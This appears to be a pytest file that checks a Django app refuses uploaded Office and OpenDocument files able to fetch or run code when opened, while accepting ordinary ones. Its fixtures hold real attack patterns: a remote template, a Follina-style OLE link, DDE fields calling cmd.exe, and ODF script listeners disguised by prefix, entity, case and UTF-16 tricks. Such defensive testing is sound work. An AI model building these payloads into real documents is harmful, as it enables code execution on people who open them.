"""Office documents that fetch or run code when opened, found by an attack on the running app:
relationships to outside the package, embedded OLE objects, DDE, and OpenDocument script
listeners hidden from a byte scan (another prefix, character references, UTF-16, a sub-document)."""

import pytest

from commitments.sample_files import odf_bytes, ooxml_bytes, pdf_bytes, upload, zip_bytes
from commitments.tests.helpers import page_messages, post_files

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL = "enlaza contenido externo que se descarga al abrirlo: no se acepta."
MACROS = "tiene macros, que pueden ejecutar código al abrirlo: no se acepta."
PROGRAMS = "lleva programas dentro ({part}) que podrían ejecutarse al abrirlo: no se acepta."


def relationships(*items):
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{number}" Type="{RELS}/{kind}" Target="{target}"{mode}/>'
            for number, (kind, target, mode) in enumerate(items, 1)
        )
        + "</Relationships>"
    )


def external(kind, target):
    return (kind, target, ' TargetMode="External"')


ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_listener(href, prefix="script"):
    return (
        f"<office:document-content {ODF_NAMESPACES}><office:body><office:event-listeners>"
        f'<{prefix}:event-listener {prefix}:language="ooo:script" {prefix}:event-name="dom:mouseover" '
        f'xlink:href="{href}"/></office:event-listeners></office:body></office:document-content>'
    )


PYDOC = "cript:pydoc.py$tempfilepager(1, calc.exe)?language=Python&amp;location=share"


def utf16_odt(content):
    body = f'<?xml version="1.0" encoding="UTF-16"?>{content}'.encode("utf-16")
    return zip_bytes(
        [
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            ("content.xml", body),
            ("styles.xml", "<office:document-styles/>"),
            ("META-INF/manifest.xml", "<manifest:manifest/>"),
        ]
    )


REFUSED = [
    (
        "remote-template",
        "informe.docx",
        ooxml_bytes(
            "docx",
            extra=[
                ("word/settings.xml", "<w:settings/>"),
                (
                    "word/_rels/settings.xml.rels",
                    relationships(external("attachedTemplate", "http://203.0.113.9/evil.dotm")),
                ),
            ],
        ),
        EXTERNAL,
    ),
    (
        "follina-ole-object",
        "informe.docx",
        ooxml_bytes(
            "docx",
            extra=[
                (
                    "word/_rels/document.xml.rels",
                    relationships(external("oleObject", "mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/")),
                )
            ],
        ),
        EXTERNAL,
    ),
    (
        "image-on-a-network-share",
        "charla.pptx",
        ooxml_bytes(
            "pptx",
            extra=[
                ("ppt/slides/_rels/slide1.xml.rels", relationships(external("image", "file://\\\\host\\share\\a.png")))
            ],
        ),
        EXTERNAL,
    ),
    (
        "embedded-ole-object",
        "informe.docx",
        ooxml_bytes("docx", extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")]),
        PROGRAMS.format(part="word/embeddings/oleObject1.bin"),
    ),
    (
        "ddeauto-field",
        "informe.docx",
        ooxml_bytes(
            "docx",
            extra=[
                (
                    "word/footer1.xml",
                    '<w:ftr><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"/>'
                    "</w:p></w:ftr>",
                )
            ],
        ),
        PROGRAMS.format(part="word/footer1.xml"),
    ),
    (
        "dde-field-in-instr-text",
        "informe.docx",
        ooxml_bytes(
            "docx",
            extra=[("word/header1.xml", '<w:hdr><w:r><w:instrText xml:space="preserve"> DDE cmd </w:instrText>')],
        ),
        PROGRAMS.format(part="word/header1.xml"),
    ),
    (
        "excel-dde-link",
        "cuentas.xlsx",
        ooxml_bytes(
            "xlsx",
            extra=[
                ("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/>')
            ],
        ),
        PROGRAMS.format(part="xl/externalLinks/externalLink1.xml"),
    ),
    (
        "odt-listener-other-prefix",
        "notas.odt",
        odf_bytes("odt", content=odt_listener("vnd.sun.star.s" + PYDOC, "s")),
        MACROS,
    ),
    (
        "odt-listener-character-reference",
        "notas.odt",
        odf_bytes("odt", content=odt_listener("vnd.sun.star.&#115;" + PYDOC, "s")),
        MACROS,
    ),
    (
        "odt-listener-hex-reference-upper-case",
        "notas.odt",
        odf_bytes("odt", content=odt_listener("VND.SUN.STAR.&#x53;" + PYDOC.upper(), "S")),
        MACROS,
    ),
    ("odt-listener-utf16", "notas.odt", utf16_odt(odt_listener("vnd.sun.star.s" + PYDOC, "s")), MACROS),
    (
        "odt-listener-in-an-embedded-object",
        "notas.odt",
        odf_bytes("odt", extra=[("Object 1/content.xml", odt_listener("vnd.sun.star.s" + PYDOC, "s"))]),
        MACROS,
    ),
    (
        "odt-listener-naming-a-basic-macro",
        "notas.odt",
        odf_bytes(
            "odt",
            content=f"<office:document-content {ODF_NAMESPACES}><s:event-listener "
            's:language="StarBasic" s:event-name="dom:load" s:macro-name="Standard.Module1.Main"/>'
            "</office:document-content>",
        ),
        MACROS,
    ),
    (
        "odt-remote-object",
        "notas.odt",
        odf_bytes(
            "odt",
            content=f"<office:document-content {ODF_NAMESPACES}><draw:object "
            'xlink:href=&#10;"&#104;ttp://203.0.113.9/remote.odt" xlink:show="embed" xlink:actuate="onLoad"/>'
            "</office:document-content>",
        ),
        EXTERNAL,
    ),
]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "reason"), [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED]
)
def test_office_documents_that_fetch_or_run_code_on_opening_are_refused_saying_why(
    client_for, ambassador, draft, name, content, reason
):
    response = post_files(client_for(ambassador), draft, upload(name, content), upload("acta.pdf", pdf_bytes()))

    assert list(draft.evidence.values_list("original_name", flat=True)) == ["acta.pdf"]
    assert page_messages(response)[0].startswith(f"«{name}» {reason}")


ORDINARY = [
    (
        "informe.docx",
        ooxml_bytes(
            "docx",
            extra=[
                (
                    "word/_rels/document.xml.rels",
                    relationships(
                        external("hyperlink", "https://example.org/informe"),
                        ("image", "media/image1.png", ""),
                        ("package", "embeddings/Microsoft_Excel_Worksheet.xlsx", ""),
                    ),
                ),
                ("word/media/image1.png", b"\x89PNG\r\n\x1a\n"),
                ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", ooxml_bytes("xlsx")),
                ("word/footer1.xml", '<w:ftr><w:instrText xml:space="preserve"> PAGE </w:instrText></w:ftr>'),
            ],
        ),
    ),
    (
        "cuentas.xlsx",
        ooxml_bytes(
            "xlsx",
            extra=[("xl/worksheets/_rels/sheet1.xml.rels", relationships(external("hyperlink", "https://a.b/")))],
        ),
    ),
    (
        "notas.odt",
        odf_bytes(
            "odt",
            content=f'<office:document-content {ODF_NAMESPACES}><text:a xlink:href="https://example.org/">'
            'Macro: el enlace</text:a><draw:object xlink:href="./Object 1" xlink:type="simple"/>'
            "</office:document-content>",
            extra=[("Object 1/content.xml", "<office:document-content/>")],
        ),
    ),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content"), ORDINARY, ids=["docx-link-image-chart", "xlsx-link", "odt-link-object"])
def test_documents_with_hyperlinks_images_and_embedded_documents_are_accepted(
    client_for, ambassador, draft, name, content
):
    response = post_files(client_for(ambassador), draft, upload(name, content))

    assert page_messages(response) == ["Evidencias guardadas: 1."]
    assert list(draft.evidence.values_list("original_name", flat=True)) == [name]
